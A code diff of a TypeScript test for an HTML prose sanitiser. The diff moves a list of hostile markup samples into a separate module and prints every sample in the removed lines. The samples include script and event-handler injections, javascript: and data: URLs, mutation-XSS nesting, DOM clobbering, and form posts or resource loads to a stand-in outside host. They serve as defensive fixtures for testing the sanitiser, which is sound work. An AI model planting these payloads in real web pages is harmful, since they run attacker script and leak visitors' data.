@@ -1,33 +1,8 @@
 import assert from "node:assert/strict";
 import fc from "fast-check";
 import { sanitiseOutput, sanitiseProse } from "../../../lib/press/book/prose/sanitise.ts";
+import { HOSTILE } from "./hostile.ts";
 import { type Dom, parse } from "./page.ts";
-
-// Ways to run, load or restyle something, old and new; each is harmless only if a part of it goes.
-const HOSTILE = [
-  `<script>steal()</script>`,
-  `<img src=x onerror=steal()>`,
-  `<img src="https://elsewhere.example/pixel.png" alt="spy">`,
-  `<a href="javascript:steal()">click</a>`,
-  `<a href=" java\nscript:steal()">click</a>`,
-  `<a href="data:text/html,<script>steal()</script>">click</a>`,
-  `<a href="//elsewhere.example">click</a>`,
-  `<svg><script>steal()</script><animate onbegin=steal()></svg>`,
-  `<svg></p><style><a id="</style><img src=1 onerror=steal()>">`,
-  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=steal()&gt;">`,
-  `<math><annotation-xml encoding="text/html"><script>steal()</script></annotation-xml></math>`,
-  `<noscript><p title="</noscript><img src=x onerror=steal()>">`,
-  `<iframe srcdoc="<script>steal()</script>"></iframe><object data=x></object><embed src=x>`,
-  `<form action="https://elsewhere.example"><input name=x><button>send</button></form>`,
-  `<style>body { display: none }</style><link rel=stylesheet href=//elsewhere.example>`,
-  `<base href="https://elsewhere.example/"><meta http-equiv=refresh content="0;url=//x">`,
-  `<div style="position:fixed;background:url(https://elsewhere.example)">over</div>`,
-  `<td style="text-align:right;background:url(//x)">1</td>`,
-  `<p id="_main" name="body" onclick=steal()>clobber</p>`,
-  `<template><script>steal()</script></template><!-- <script> -->`,
-  `<details ontoggle=steal() open><summary onfocus=steal() tabindex=1 autofocus>x</summary></details>`,
-  `<p title='<span data-maths="0"></span>'>marker</p>`,
-];
 
 const ELEMENTS = new Set(
   ("a b code details div em h1 h2 h3 i img li ol p pre span strong summary table tbody td th thead " +
